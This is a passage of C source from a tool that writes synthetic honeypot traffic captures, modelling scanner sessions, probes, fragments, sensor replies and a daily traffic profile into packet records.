				"<soap:Body><Probe xmlns=\"http://schemas.xmlsoap.org/ws/2005/04/discovery\"/></soap:Body>"
				"</soap:Envelope>", (uint32_t)rnext(&g->rt));
			break;
		case 10001: memcpy(b, "\1\0\0\0", 4); n = 4; break;
		case 520: /* RIPv2 whole-table request */
			memset(b, 0, 24);
			b[0] = 1; b[1] = 2; b[23] = 16;
			n = 24;
			break;
		default:
			n = rbelow(&g->rt, 120);
			fill_random(&g->rt, b, n);
			break;
		}
		break;
	}
	return n < cap ? n : cap;
}

/* ------------------------------------------------------------ sessions */

static void sess_new(struct gen *g, struct sess *s)
{
	double u = runit(&g->rt) * g->recipe_cdf[N_RECIPES - 1];
	size_t ri = 0;
	while (ri + 1 < N_RECIPES && g->recipe_cdf[ri] < u)
		ri++;
	/* ARP needs a link layer */
	if (recipes[ri].kind == K_ARP && g->o.linktype == LT_RAW)
		ri = 0;
	const struct recipe *r = &recipes[ri];
	memset(s, 0, offsetof(struct sess, payload));
	s->r = r;
	s->kind = r->kind;
	s->dport = r->port;
	s->src = pick_source(g, r->pref);
	s->dst = pick_dst(g);
	s->vlan = rchance(&g->rt, 0.01) ? (uint16_t)(rchance(&g->rt, 0.5) ? 100 : 203) : 0;
	s->seq = (uint32_t)rnext(&g->rt) | 1;
	s->srv_isn = (uint32_t)rnext(&g->rt) | 1;
	s->seq_dst = rchance(&g->rt, 0.5);
	struct source *src = &g->src[s->src];
	g->kind_count[r->kind]++;

	switch (r->kind) {
	case K_SCAN:
		/* 1..15 targets, mean 8 */
		s->left = (uint16_t)rrange(&g->rt, 1, 15);
		if (!s->dport) {
			s->dport = rchance(&g->rt, 0.7) ? tcp_tail[rbelow(&g->rt, sizeof tcp_tail / sizeof *tcp_tail)]
							 : (uint16_t)rrange(&g->rt, 1, 65535);
		}
		s->sport = ephemeral(g, src);
		break;
	case K_SWEEP:
		s->left = (uint16_t)rrange(&g->rt, 20, 180);
		s->sport = (uint16_t)rrange(&g->rt, 32768, 65535);
		break;
	case K_STEALTH: {
		static const uint8_t fl[3] = { TH_FIN, 0, TH_FIN | TH_PSH | TH_URG };
		s->stealth_flags = fl[rbelow(&g->rt, 3)];
		s->left = (uint16_t)rrange(&g->rt, 5, 35);
		s->sport = (uint16_t)rrange(&g->rt, 32768, 65535);
		break;
	}
	case K_FLOW: {
		s->sport = ephemeral(g, src);
		build_flow_payload(g, s, src);
		/* segments carry the timestamp option when the OS negotiated it */
		uint16_t mss = (uint16_t)(src->mss - (g->osopt[src->os].ts_off != 0xff ? 12 : 0));
		size_t segs = 0;
		for (unsigned i = 0; i < s->nmsg; i++)
			segs += (s->mlen[i] + mss - 1u) / mss;
		s->left = (uint16_t)(3 + segs);
		break;
	}
	case K_UDP:
		s->left = (uint16_t)rrange(&g->rt, 1, 5);
		if (!s->dport)
			s->dport = rchance(&g->rt, 0.75) ? udp_tail[rbelow(&g->rt, sizeof udp_tail / sizeof *udp_tail)]
							  : safe_port(&g->rt, 1024, 65535);
		s->sport = r->svc == SV_SLAMMER || r->svc == SV_NBNS ? s->dport
			   : r->svc == SV_SIP ? 5060 : safe_port(&g->rt, 1024, 65535);
		break;
	case K_ICMP:
		s->left = (uint16_t)rrange(&g->rt, 1, 15);
		s->icmp_id = (uint16_t)rnext(&g->rt);
		s->icmp_seq = (uint16_t)rrange(&g->rt, 0, 5);
		s->variant = (uint8_t)rbelow(&g->rt, 100); /* <50 windows ping, <85 linux, else empty; options below */
		break;
	case K_FRAG: {
		/* One oversized datagram cut at 1480-byte boundaries; 20% of
		 * sessions lose the first fragment (only non-first seen). */
		s->variant = (uint8_t)rbelow(&g->rt, 2); /* 0 UDP, 1 ICMP echo */
		size_t total = rrange(&g->rt, 1600, 4000);
		fill_random(&g->rt, s->payload, total);
		s->plen = (uint16_t)total;
		s->left = (uint16_t)((total + 8 + 1479) / 1480);
		s->sport = safe_port(&g->rt, 1024, 65535);
		s->dport = rchance(&g->rt, 0.5) ? 53 : safe_port(&g->rt, 1024, 65535);
		s->icmp_id = (uint16_t)rnext(&g->rt);
		if (rchance(&g->rt, 0.2)) {
			s->step = 1;
			s->left--;
		}
		break;
	}
	case K_V6:
		s->src = rbelow(&g->rt, g->nsrc6);
		if (g->nhn6) {
			const struct net6 *n = &g->hn6[rbelow(&g->rt, (uint32_t)g->nhn6)];
			fill_random(&g->rt, s->dst6, 16);
			for (unsigned i = 0; i < 16; i++) {
				unsigned bits = n->plen > i * 8 ? n->plen - i * 8 : 0;
				uint8_t m = bits >= 8 ? 0xff : (uint8_t)(0xff00 >> bits);
				s->dst6[i] = (uint8_t)((n->pfx[i] & m) | (s->dst6[i] & ~m));
			}
		} else {
			static const uint8_t doc[8] = { 0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0 };
			memcpy(s->dst6, doc, 8);
			memset(s->dst6 + 8, 0, 7);
			s->dst6[15] = (uint8_t)rrange(&g->rt, 1, 254);
		}
		s->variant = (uint8_t)rbelow(&g->rt, 3); /* TCP SYN, ICMPv6 echo, UDP 53 */
		s->dport = s->variant == 0 ? (rchance(&g->rt, 0.5) ? 22 : 445) : 53;
		s->sport = safe_port(&g->rt, 32768, 60999);
		s->icmp_id = (uint16_t)rnext(&g->rt);
		s->left = (uint16_t)rrange(&g->rt, 1, 5);
		break;
	case K_ARP:
		s->left = 1;
		break;
	case K_MISS:
		s->left = (uint16_t)rrange(&g->rt, 1, 3);
		s->sport = ephemeral(g, src);
		s->dport = rchance(&g->rt, 0.5) ? 445 : 23;
		for (int tries = 0; tries < 16; tries++) {
			uint32_t d = g->hn4[rbelow(&g->rt, (uint32_t)g->nhn4)].base + 256 + rbelow(&g->rt, 256);
			if (!in_honeynet(g, d)) {
				s->dst = d;
				break;
			}
			s->dst = 0;
		}
		if (!s->dst) /* every neighbour is honeynet: send a TEST-NET-less broadcast */
			s->dst = 0xffffffffu;
		break;
	}
	if (s->left == 0)
		s->left = 1;
}

static void ip4_from_source(struct gen *g, struct ip4h *h, struct source *src, uint32_t dst, uint8_t proto)
{
	const struct os_def *o = &os_tab[src->os];
	memset(h, 0, sizeof *h);
	h->src = src->ip;
	h->dst = dst;
	h->ttl = src->ttl;
	h->proto = proto;
	h->df = o->df;
	/* p0f's id+ quirk needs a nonzero ID with DF; raw scanners randomise */
	if (o->kind == OS_STACK) {
		h->id = ++src->ipid;
		if (!h->id)
			h->id = ++src->ipid;
	} else {
		h->id = (uint16_t)(rnext(&g->rt) | 1);
	}
}

static uint32_t tsval(const struct gen *g, const struct source *src)
{
	uint32_t v = src->tsbase + (uint32_t)g->now_ms;
	return v ? v : 1;
}

/* Sends one SYN with the source's OS layout (or its scanner's layout). */
static uint8_t *emit_syn(struct gen *g, struct source *src, uint32_t dst, uint16_t sport,
			 uint16_t dport, uint32_t seq, uint16_t vlan, uint8_t flags)
{
	const struct os_def *o = &os_tab[src->os];
	const struct os_opts *oo = &g->osopt[src->os];
	uint8_t opt[40];
	struct tcph t = { .sport = sport, .dport = dport, .seq = seq, .flags = flags };
	memcpy(opt, oo->b, oo->len);
	if (oo->mss_off != 0xff)
		be16(opt + oo->mss_off + 2, src->mss);
	if (oo->ts_off != 0xff)
		be32(opt + oo->ts_off + 2, tsval(g, src));
	t.opt = opt;
	t.optlen = oo->len;
	t.win = o->win ? o->win : (uint16_t)(src->mss * o->winmss);
	if (o->kind == OS_MIRAI) {
		t.seq = dst; /* Mirai's tell-tale: sequence number == target address */
		t.win = (uint16_t)(rnext(&g->rt) | 0x0400);
	} else if (o->kind == OS_NMAP) {
		static const uint16_t wins[4] = { 1024, 2048, 3072, 4096 };
		t.win = wins[(sport ^ dport) & 3];
	}
	struct ip4h h;
	ip4_from_source(g, &h, src, dst, 6);
	uint8_t *p = rec_begin(&g->o, false, vlan, 0x0800);
	p = put_ip4(p, &h, tcp_len(&t));
	return put_tcp(p, &t, pseudo4(h.src, h.dst, 6, tcp_len(&t)));
}

static void reply_arm(struct gen *g, int type, uint32_t hp, uint32_t peer, uint16_t hport,
		      uint16_t pport, uint32_t seq, uint32_t ack, uint16_t vlan)
{
	struct reply *r = &g->rep;
	r->pending = true;
	r->type = type;
	r->hp = hp; r->peer = peer; r->hport = hport; r->pport = pport;
	r->seq = seq; r->ack = ack; r->vlan = vlan;
	r->qlen = 0;
	g->replies++;
}

/* Sensor replies are budgeted so that they stay near --replies percent of
 * the file; flow SYNs get first claim since their ACKs imply a SYN-ACK. */
static bool reply_wanted(struct gen *g, bool priority)
{
	double credit = g->reply_share * (double)(g->emitted + 1) - (double)g->replies;
	if (priority)
		return credit > -4.0 && rchance(&g->rt, 0.5);
	return credit > 0.0 && rchance(&g->rt, 0.1);
}

static void emit_reply(struct gen *g)
{
	struct reply *r = &g->rep;
	r->pending = false;
	struct ip4h h = { .src = r->hp, .dst = r->peer, .ttl = 64, .df = true,
			  .id = (uint16_t)(rnext(&g->rt) | 1) };
	uint8_t *p;
	if (r->type == R_ECHO || r->type == R_UNREACH) {
		h.proto = 1;
		if (r->type == R_UNREACH)
			h.df = false;
		p = rec_begin(&g->o, true, r->vlan, 0x0800);
		size_t ql = r->type == R_ECHO ? r->qlen : r->qlen;
		p = put_ip4(p, &h, 8 + ql);
		if (r->type == R_ECHO)
			p = put_icmp(p, 0, 0, r->seq, r->quote, ql, 0);
		else
			p = put_icmp(p, 3, 3, 0, r->quote, ql, 0);
		rec_end(&g->o, p);
		return;
	}
	struct tcph t = { .sport = r->hport, .dport = r->pport, .seq = r->seq, .ack = r->ack };
	uint8_t opt[20];
	if (r->type == R_SYNACK) {
		/* the honeypot itself is a Linux 3.11+ host */
		static const uint8_t sa[20] = { 2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7 };
		memcpy(opt, sa, 20);
		be32(opt + 8, (uint32_t)g->now_ms + 0x1000);
		be32(opt + 12, 0);
		t.opt = opt;
		t.optlen = 20;
		t.flags = TH_SYN | TH_ACK;
		t.win = 28960;
	} else if (r->type == R_RST) {
		t.flags = TH_RST | TH_ACK;
		t.seq = 0;
		h.df = true;
		h.id = 0;
	} else {
		t.flags = TH_ACK;
		t.win = 229;
	}
	h.proto = 6;
	p = rec_begin(&g->o, true, r->vlan, 0x0800);
	p = put_ip4(p, &h, tcp_len(&t));
	p = put_tcp(p, &t, pseudo4(h.src, h.dst, 6, tcp_len(&t)));
	rec_end(&g->o, p);
}

static void emit_scan(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	/* 12% retransmissions of the previous SYN, otherwise a new target */
	if (s->step > 0 && !rchance(&g->rt, 0.12)) {
		s->dst = s->seq_dst ? next_dst(g, s->dst) : pick_dst(g);
		s->seq = (uint32_t)rnext(&g->rt) | 1;
		if (os_tab[src->os].kind == OS_STACK)
			s->sport = ephemeral(g, src);
	}
	if (os_tab[src->os].kind == OS_MIRAI)
		s->seq = s->dst; /* what emit_syn() will put on the wire */
	uint8_t *p = emit_syn(g, src, s->dst, s->sport, s->dport, s->seq, s->vlan, TH_SYN);
	rec_end(&g->o, p);
	if (reply_wanted(g, false))
		reply_arm(g, rchance(&g->rt, 0.5) ? R_SYNACK : R_RST, s->dst, src->ip, s->dport, s->sport,
			  (uint32_t)rnext(&g->rt), s->seq + 1, s->vlan);
}

static void emit_sweep(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	uint16_t port = rchance(&g->rt, 0.3) ? tcp_tail[rbelow(&g->rt, sizeof tcp_tail / sizeof *tcp_tail)]
					      : (uint16_t)rrange(&g->rt, 1, 65535);
	/* masscan derives the sequence from a keyed hash; any fixed
	 * function of the tuple is equally opaque to a decoder */
	uint32_t seq = (s->dst ^ ((uint32_t)port << 16 | s->sport)) * 2654435761u;
	uint8_t *p = emit_syn(g, src, s->dst, s->sport, port, seq | 1, s->vlan, TH_SYN);
	rec_end(&g->o, p);
	if (reply_wanted(g, false))
		reply_arm(g, R_RST, s->dst, src->ip, port, s->sport, 0, (seq | 1) + 1, s->vlan);
}

static void emit_stealth(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	struct tcph t = { .sport = s->sport, .dport = (uint16_t)rrange(&g->rt, 1, 1024),
			  .seq = (uint32_t)rnext(&g->rt), .flags = s->stealth_flags, .win = 1024 };
	struct ip4h h;
	ip4_from_source(g, &h, src, s->dst, 6);
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x0800);
	p = put_ip4(p, &h, tcp_len(&t));
	p = put_tcp(p, &t, pseudo4(h.src, h.dst, 6, tcp_len(&t)));
	rec_end(&g->o, p);
}

static void emit_flow(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	const struct os_def *o = &os_tab[src->os];
	if (s->step == 0) {
		uint8_t *p = emit_syn(g, src, s->dst, s->sport, s->dport, s->seq, s->vlan, TH_SYN);
		rec_end(&g->o, p);
		if (o->kind == OS_MIRAI)
			s->seq = s->dst; /* emit_syn used the target as sequence */
		s->seq++;
		s->step = 1;
		if (reply_wanted(g, true))
			reply_arm(g, R_SYNACK, s->dst, src->ip, s->dport, s->sport, s->srv_isn - 1, s->seq, s->vlan);
		return;
	}
	struct tcph t = { .sport = s->sport, .dport = s->dport, .seq = s->seq, .ack = s->srv_isn,
			  .flags = TH_ACK };
	/* window after the handshake: the scaled-down receive window */
	uint32_t w = o->win ? o->win : (uint32_t)src->mss * o->winmss;
	t.win = (uint16_t)(o->ws > 0 ? (w * 4u) >> (o->ws > 4 ? 4 : o->ws) : w);
	if (!t.win)
		t.win = 1024;
	uint8_t opt[12];
	const struct os_opts *oo = &g->osopt[src->os];
	if (oo->ts_off != 0xff) {
		/* stacks that negotiated timestamps carry them on every segment */
		opt[0] = 1; opt[1] = 1; opt[2] = 8; opt[3] = 10;
		be32(opt + 4, tsval(g, src));
		be32(opt + 8, (uint32_t)g->now_ms + 0x1000);
		t.opt = opt;
		t.optlen = 12;
	}
	bool data = false;
	if (s->step == 1) {
		s->step = 2;
	} else if (s->mi < s->nmsg) {
		uint16_t rem = (uint16_t)(s->mlen[s->mi] - s->done);
		uint16_t seg = rem < src->mss - t.optlen ? rem : (uint16_t)(src->mss - t.optlen);
		t.data = s->payload + s->moff[s->mi] + s->done;
		t.dlen = seg;
		s->done = (uint16_t)(s->done + seg);
		t.flags = TH_ACK;
		if (s->done >= s->mlen[s->mi]) {
			t.flags |= TH_PSH;
			s->mi++;
			s->done = 0;
			/* keep the segment count we promised in sess_new() */
			if (s->mi == s->nmsg && s->left > 2)
				s->left = 2;
		}
		s->seq += seg;
		data = true;
	} else {
		t.flags = rchance(&g->rt, 0.8) ? (TH_FIN | TH_ACK) : (TH_RST | TH_ACK);
		s->left = 1;
	}
	struct ip4h h;
	ip4_from_source(g, &h, src, s->dst, 6);
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x0800);
	p = put_ip4(p, &h, tcp_len(&t));
	p = put_tcp(p, &t, pseudo4(h.src, h.dst, 6, tcp_len(&t)));
	rec_end(&g->o, p);
	if (data && reply_wanted(g, false))
		reply_arm(g, R_ACK, s->dst, src->ip, s->dport, s->sport, s->srv_isn, s->seq, s->vlan);
}

static void arm_unreach(struct gen *g, const uint8_t *ip, size_t iplen, uint32_t hp, uint32_t peer, uint16_t vlan)
{
	reply_arm(g, R_UNREACH, hp, peer, 0, 0, 0, 0, vlan);
	size_t hl = (size_t)(ip[0] & 15) * 4;
	size_t q = hl + 8 < iplen ? hl + 8 : iplen;
	memcpy(g->rep.quote, ip, q);
	g->rep.qlen = (uint16_t)q;
}

static void emit_udp(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	if (s->step++ > 0)
		s->dst = s->seq_dst ? next_dst(g, s->dst) : pick_dst(g);
	uint8_t data[1400];
	size_t n = build_udp(g, s, data, sizeof data);
	struct ip4h h;
	ip4_from_source(g, &h, src, s->dst, 17);
	/* NetBIOS and NTP probes go out without DF on every stack */
	if (s->r->svc == SV_NBNS || s->r->svc == SV_SLAMMER)
		h.df = false;
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x0800);
	uint8_t *ip = p;
	static const uint8_t ra[4] = { 0x94, 0x04, 0x00, 0x00 };
	if (rchance(&g->rt, 0.003)) { /* router-alert option, as some stacks add */
		h.opt = ra;
		h.optlen = 4;
	}
	p = put_ip4(p, &h, 8 + n);
	p = put_udp(p, s->sport, s->dport, data, n, pseudo4(h.src, h.dst, 17, 8 + n));
	rec_end(&g->o, p);
	if (reply_wanted(g, false))
		arm_unreach(g, ip, (size_t)(p - ip), s->dst, src->ip, s->vlan);
}

static void emit_icmp(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	if (s->step++ > 0)
		s->dst = s->seq_dst ? next_dst(g, s->dst) : pick_dst(g);
	uint8_t data[64];
	size_t n;
	if (s->variant < 50) {
		memcpy(data, "abcdefghijklmnopqrstuvwabcdefghi", 32);
		n = 32;
	} else if (s->variant < 85) {
		be32(data, (uint32_t)(g->o.ts_sec));
		be32(data + 4, 0);
		for (unsigned i = 8; i < 56; i++)
			data[i] = (uint8_t)i;
		n = 56;
	} else {
		n = 0;
	}
	struct ip4h h;
	ip4_from_source(g, &h, src, s->dst, 1);
	/* ping -R / -T: a few sweeps carry record-route or timestamp options */
	uint8_t opt[40];
	if (s->variant >= 97) {
		memset(opt, 0, 40);
		if (s->variant == 99) {
			opt[0] = 0x44; opt[1] = 40; opt[2] = 5; opt[3] = 0;
		} else {
			opt[0] = 1; opt[1] = 7; opt[2] = 39; opt[3] = 4;
		}
		h.opt = opt;
		h.optlen = 40;
	}
	uint32_t rest = (uint32_t)s->icmp_id << 16 | s->icmp_seq++;
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x0800);
	p = put_ip4(p, &h, 8 + n);
	p = put_icmp(p, 8, 0, rest, data, n, 0);
	rec_end(&g->o, p);
	if (reply_wanted(g, false)) {
		reply_arm(g, R_ECHO, s->dst, src->ip, 0, 0, rest, 0, s->vlan);
		memcpy(g->rep.quote, data, n);
		g->rep.qlen = (uint16_t)n;
	}
}

static void emit_frag(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	/* the datagram: 8-byte UDP or ICMP header followed by the payload */
	size_t total = 8u + s->plen;
	size_t off = (size_t)s->step * 1480;
	size_t len = total - off < 1480 ? total - off : 1480;
	bool more = off + len < total;
	struct ip4h h;
	ip4_from_source(g, &h, src, s->dst, s->variant ? 1 : 17);
	h.df = false;
	h.id = (uint16_t)(s->icmp_id | 1);
	h.frag = (uint16_t)((off / 8) | (more ? 0x2000 : 0));
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x0800);
	p = put_ip4(p, &h, len);
	if (s->step == 0) {
		/* transport checksum covers the whole datagram, not the fragment */
		uint8_t hdr[8];
		uint64_t sum;
		if (s->variant) {
			hdr[0] = 8; hdr[1] = 0; hdr[2] = hdr[3] = 0;
			be16(hdr + 4, s->icmp_id); be16(hdr + 6, 1);
			sum = csum_add(csum_add(0, hdr, 8), s->payload, s->plen);
		} else {
			be16(hdr, s->sport); be16(hdr + 2, s->dport); be16(hdr + 4, (uint16_t)total);
			hdr[6] = hdr[7] = 0;
			sum = csum_add(csum_add(pseudo4(h.src, h.dst, 17, total), hdr, 8), s->payload, s->plen);
		}
		uint16_t c = csum_fold(sum);
		if (!s->variant && !c)
			c = 0xffff;
		csum_store(hdr + (s->variant ? 2 : 6), c);
		memcpy(p, hdr, 8);
		memcpy(p + 8, s->payload, len - 8);
	} else {
		memcpy(p, s->payload + off - 8, len);
	}
	p += len;
	rec_end(&g->o, p);
	s->step++;
}

static void emit_v6(struct gen *g, struct sess *s)
{
	struct source6 *src = &g->src6[s->src];
	const struct os_def *o = &os_tab[src->os];
	const struct os_opts *oo = &g->osopt[src->os];
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x86dd);
	uint8_t *ip6 = p;
	uint8_t nh;
	size_t l4;
	uint8_t *l = p + 40;
	if (s->variant == 0) {
		nh = 6;
		uint8_t opt[40];
		memcpy(opt, oo->b, oo->len);
		uint16_t mss = 1440; /* 1500 minus the 60-byte v6+TCP headers */
		if (oo->mss_off != 0xff)
			be16(opt + oo->mss_off + 2, mss);
		if (oo->ts_off != 0xff)
			be32(opt + oo->ts_off + 2, (uint32_t)g->now_ms + 77777u);
		struct tcph t = { .sport = s->sport++, .dport = s->dport, .seq = (uint32_t)rnext(&g->rt) | 1,
				  .flags = TH_SYN, .opt = opt, .optlen = oo->len,
				  .win = o->win ? o->win : (uint16_t)(mss * o->winmss) };
		if (o->kind == OS_MIRAI)
			t.win = (uint16_t)(rnext(&g->rt) | 0x400);
		l4 = tcp_len(&t);
		put_tcp(l, &t, pseudo6(src->ip, s->dst6, 6, l4));
	} else if (s->variant == 1) {
		nh = 58;
		uint8_t data[56];
		for (unsigned i = 0; i < 56; i++)
			data[i] = (uint8_t)i;
		l4 = 8 + 56;
		put_icmp(l, 128, 0, (uint32_t)s->icmp_id << 16 | s->icmp_seq++, data, 56,
			 pseudo6(src->ip, s->dst6, 58, l4));
	} else {
		nh = 17;
		uint8_t q[29] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
				  6, 'g', 'o', 'o', 'g', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 28, 0, 1 };
		be16(q, (uint16_t)rnext(&g->rt));
		l4 = 8 + 28;
		put_udp(l, s->sport, 53, q, 28, pseudo6(src->ip, s->dst6, 17, l4));
	}
	be32(ip6, 0x60000000u);
	be16(ip6 + 4, (uint16_t)l4);
	ip6[6] = nh;
	ip6[7] = src->ttl;
	memcpy(ip6 + 8, src->ip, 16);
	memcpy(ip6 + 24, s->dst6, 16);
	rec_end(&g->o, l + l4);
}

static void emit_arp(struct gen *g, struct sess *s)
{
	/* the upstream router resolving a honeypot address */
	uint8_t *p = rec_begin(&g->o, false, s->vlan, 0x0806);
	be16(p, 1); be16(p + 2, 0x0800); p[4] = 6; p[5] = 4; be16(p + 6, 1);
	memcpy(p + 8, mac_router, 6);
	be32(p + 14, g->hn4[0].base + (g->hn4[0].size > 2 ? g->hn4[0].size - 2 : 0));
	memset(p + 18, 0, 6);
	be32(p + 24, s->dst);
	/* an ARP request is broadcast */
	if (g->o.linktype == LT_ETH)
		memset(g->o.rec + 16, 0xff, 6);
	rec_end(&g->o, p + 28);
}

static void emit_miss(struct gen *g, struct sess *s)
{
	struct source *src = &g->src[s->src];
	uint8_t *p = emit_syn(g, src, s->dst, s->sport, s->dport, s->seq, s->vlan, TH_SYN);
	rec_end(&g->o, p);
}

static void emit_one(struct gen *g)
{
	if (g->rep.pending) {
		emit_reply(g);
		g->emitted++;
		return;
	}
	struct sess *s = g->sticky ? g->sticky : &g->sess[rbelow(&g->rt, g->nsess)];
	if (s->left == 0)
		sess_new(g, s);
	switch (s->kind) {
	case K_SCAN: emit_scan(g, s); break;
	case K_SWEEP: emit_sweep(g, s); break;
	case K_STEALTH: emit_stealth(g, s); break;
	case K_FLOW: emit_flow(g, s); break;
	case K_UDP: emit_udp(g, s); break;
	case K_ICMP: emit_icmp(g, s); break;
	case K_FRAG: emit_frag(g, s); break;
	case K_V6: emit_v6(g, s); break;
	case K_ARP: emit_arp(g, s); break;
	case K_MISS: emit_miss(g, s); break;
	}
	if (s->kind == K_SCAN)
		s->step = 1;
	s->left--;
	g->sticky = s->kind == K_FRAG && s->left ? s : NULL;
	g->emitted++;
}

/* ------------------------------------------------------------ time model */

/* Relative traffic per UTC hour: evening peaks in East Asia (13-16 UTC)
 * and the Americas (01-03 UTC), a trough in the European morning. */
static const double hour_profile[24] = {
	1.05, 1.10, 1.12, 1.08, 0.98, 0.88, 0.80, 0.78, 0.82, 0.88, 0.95, 1.00,
	1.06, 1.14, 1.20, 1.22, 1.16, 1.06, 0.98, 0.92, 0.90, 0.94, 0.98, 1.02,
};

static double gauss(struct rng *r)
{
	/* Irwin-Hall with 12 uniforms: good enough and branch-free */
	double s = 0;
	for (int i = 0; i < 12; i++)
		s += runit(r);
	return s - 6.0;
}

/* Packets per second of the day: hourly profile (cosine-interpolated),
 * per-minute log-normal noise, a few scan storms, per-second jitter. */
static uint32_t *day_counts(uint64_t seed, uint64_t npk)
{
	struct rng r;
	rng_seed(&r, seed, 1);
	double *w = xcalloc(86400, sizeof *w);
	double minute[1440];
	for (int m = 0; m < 1440; m++)
		minute[m] = exp(0.12 * gauss(&r));
	int storms = (int)rrange(&r, 3, 6);
	for (int i = 0; i < storms; i++) {
		int start = (int)rbelow(&r, 1440), len = (int)rrange(&r, 5, 40);
		double f = 1.5 + 1.5 * runit(&r);
		for (int m = start; m < start + len && m < 1440; m++)
			minute[m] *= f;
	}
	double total = 0;
	for (int s = 0; s < 86400; s++) {
		double h = s / 3600.0 - 0.5;
		int h0 = (int)floor(h);
		double f = h - h0;
		double a = hour_profile[(h0 + 24) % 24], b = hour_profile[(h0 + 25) % 24];
		double k = (1 - cos(f * M_PI)) / 2;
		w[s] = (a + (b - a) * k) * minute[s / 60] * (0.9 + 0.2 * runit(&r));
		total += w[s];
	}
	uint32_t *c = xcalloc(86400, sizeof *c);
	double acc = 0;
	uint64_t given = 0;
	for (int s = 0; s < 86400; s++) {
		acc += w[s];
		uint64_t want = (uint64_t)llround(acc / total * (double)npk);
		if (s == 86399)
			want = npk;
		c[s] = (uint32_t)(want - given);
		given = want;
	}
	free(w);
	return c;
}

/* -------------------------------------------------------------- set-up */

static bool parse_cidr(const char *s, struct gen *g)
{
	char buf[128];
	snprintf(buf, sizeof buf, "%s", s);
	char *slash = strchr(buf, '/');
	long plen = -1;
	if (slash) {
		*slash = 0;
		char *end;
		plen = strtol(slash + 1, &end, 10);
		if (*end || plen < 0)
			return false;
	}
	struct in_addr a4;
	uint8_t a6[16];
	if (inet_pton(AF_INET, buf, &a4) == 1) {
		if (plen < 0)
			plen = 32;
		if (plen > 32 || plen < 8)
			return false;
		uint32_t mask = plen ? ~0u << (32 - plen) : 0;
		g->hn4 = realloc(g->hn4, (g->nhn4 + 1) * sizeof *g->hn4);
		if (!g->hn4)
			die("out of memory");
		g->hn4[g->nhn4++] = (struct net4){ ntohl(a4.s_addr) & mask, (uint32_t)(1ull << (32 - plen)) };
		return true;
	}
	if (inet_pton(AF_INET6, buf, a6) == 1) {
		if (plen < 0)
			plen = 128;
		if (plen > 128)
			return false;
		g->hn6 = realloc(g->hn6, (g->nhn6 + 1) * sizeof *g->hn6);
		if (!g->hn6)
			die("out of memory");
		memcpy(g->hn6[g->nhn6].pfx, a6, 16);
		g->hn6[g->nhn6++].plen = (uint8_t)plen;
		return true;
	}
	return false;
}

static bool parse_day(const char *s, int64_t *epoch)
{
	int y, m, d;
	char tail;
	if (sscanf(s, "%4d-%2d-%2d%c", &y, &m, &d, &tail) != 3 || m < 1 || m > 12 || d < 1 || d > 31 ||
	    y < 1970 || y > 2105)
		return false;
	/* days from civil (proleptic Gregorian), avoiding timegm's TZ games */
	int yy = y - (m <= 2);
	int era = yy / 400;
	int yoe = yy - era * 400;
	int doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
	int doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
	*epoch = ((int64_t)era * 146097 + doe - 719468) * 86400;
	return *epoch + 86400 < (int64_t)1 << 32;
}

static size_t pick_cdf(struct rng *r, const double *cdf, size_t n)
{
	double u = runit(r) * cdf[n - 1];
	size_t lo = 0, hi = n - 1;
	while (lo < hi) {
		size_t mid = (lo + hi) / 2;
		if (cdf[mid] < u)
			lo = mid + 1;
		else
			hi = mid;
	}
	return lo;
}

static int cmp_r4_cc(const void *a, const void *b)
{
	const struct range4 *x = a, *y = b;
	if (x->cc != y->cc)
		return x->cc < y->cc ? -1 : 1;
	return x->start < y->start ? -1 : x->start > y->start;
}

struct hashset { uint32_t *v; uint32_t mask; };

static bool hs_insert(struct hashset *h, uint32_t key)
{
	uint32_t i = (key * 2654435761u) & h->mask;
	while (h->v[i]) {
		if (h->v[i] == key)
			return false;
		i = (i + 1) & h->mask;
	}
	h->v[i] = key;
	return true;
}

static uint8_t pick_os(struct rng *r)
{
	double total = 0;
	for (size_t i = 0; i < N_OS; i++)
		total += os_tab[i].share;
	double u = runit(r) * total;
	for (size_t i = 0; i < N_OS; i++) {
		if (u < os_tab[i].share)
			return (uint8_t)i;
		u -= os_tab[i].share;
	}
	return 0;
}

static uint16_t pick_mss(struct rng *r)
{
	static const uint16_t v[] = { 1460, 1460, 1460, 1460, 1460, 1460, 1460, 1460, 1460, 1460,
				      1460, 1460, 1460, 1460, 1452, 1452, 1440, 1400, 1380, 1360 };
	return v[rbelow(r, sizeof v / sizeof *v)];
}

static void build_sources(struct gen *g, struct addrdb *db, uint64_t seed, double zipf_s)
{
	struct rng r;
	rng_seed(&r, seed, 2);
	/* group ranges by country; each country's ranges weighted by sqrt(size)
	 * so big ISP blocks host more attackers without drowning small ones */
	qsort(db->r4, db->n4, sizeof *db->r4, cmp_r4_cc);
	size_t ncc = 0;
	for (size_t i = 0; i < db->n4; i++)
		if (i == 0 || db->r4[i].cc != db->r4[i - 1].cc)
			ncc++;
	uint16_t *ccs = xcalloc(ncc, sizeof *ccs);
	size_t *first = xcalloc(ncc + 1, sizeof *first);
	double *ccw = xcalloc(ncc, sizeof *ccw);
	double *rcdf = xcalloc(db->n4, sizeof *rcdf);
	size_t k = 0;
	for (size_t i = 0; i < db->n4; i++) {
		if (i == 0 || db->r4[i].cc != db->r4[i - 1].cc) {
			ccs[k] = db->r4[i].cc;
			first[k++] = i;
		}
		rcdf[i] = sqrt((double)db->r4[i].count) + (i == first[k - 1] ? 0 : rcdf[i - 1]);
	}
	first[ncc] = db->n4;
	size_t unlisted = 0;
